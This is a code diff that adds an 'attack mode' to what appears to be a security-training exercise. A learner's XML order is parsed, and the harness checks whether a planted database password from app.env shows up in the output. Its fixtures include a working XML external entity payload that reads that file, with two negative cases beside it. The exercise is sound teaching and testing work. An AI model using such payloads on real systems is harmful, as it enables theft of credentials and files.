@@ -74,3 +74,23 @@ export async function exploit({ readOrder }: Code, vary: Vary): Promise<false | 
   }
   return false
 }
+
+// Attack mode: the learner writes the input.
+export async function attack({ readOrder }: Code, input: { body: string }, vary: Vary) {
+  const secret = vary.text(12)
+  writeFileSync('app.env', `DATABASE_PASSWORD=${secret}`)
+  try {
+    const { number, note, lines } = await readOrder(Buffer.from(input.body), vary.number(1, 999), log)
+    const shown = [`Order ${number}`, `Note: ${note}`, ...lines.map(({ article, quantity }) => `${quantity} × ${article}`)].join('\n')
+    return { isDone: shown.includes(secret), shown }
+  } catch (error) {
+    return { isDone: false, shown: String(error) }
+  }
+}
+
+const line = '<line article="4711" quantity="2"/>'
+export const attacks = [
+  { input: { body: `<!DOCTYPE order [<!ENTITY x SYSTEM "app.env">]><order number="A-17"><note>&x;</note>${line}</order>` }, isDone: true },
+  { input: { body: `<order number="A-17"><note>app.env</note>${line}</order>` }, isDone: false },
+  { input: { body: `<!DOCTYPE order [<!ENTITY x SYSTEM "none.env">]><order number="A-17"><note>&x;</note>${line}</order>` }, isDone: false },
+]
